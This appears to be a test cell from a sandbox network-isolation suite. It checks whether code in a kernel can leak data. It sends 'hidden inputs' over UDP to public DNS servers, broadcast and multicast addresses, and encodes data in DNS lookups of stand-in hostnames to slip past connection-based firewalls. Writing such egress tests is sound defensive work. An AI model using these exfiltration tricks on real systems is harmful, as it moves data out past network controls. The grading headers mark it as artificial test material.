# class: network
# honest: poor
# probe: network
# expect: score == honest; status graded
# in kernel: reaches the network

# %% [markdown]
# Send datagrams: to the machine, to name servers, by broadcast and multicast, and hide data in the names that are looked
# up. A firewall that knows only connections lets these out.

# %%
import socket

for address in (tuple(bait["udp"]), ("1.1.1.1", 53), ("255.255.255.255", 9), ("224.0.0.251", 5353), ("8.8.8.8", 53)):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(b"hidden inputs", address)
            print("sent to", address)
    except OSError as error:
        print(address, type(error).__name__)
for name in ("hidden-inputs.example.org", "localhost.localdomain.example"):
    try:
        print("FOUND", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(name, type(error).__name__)
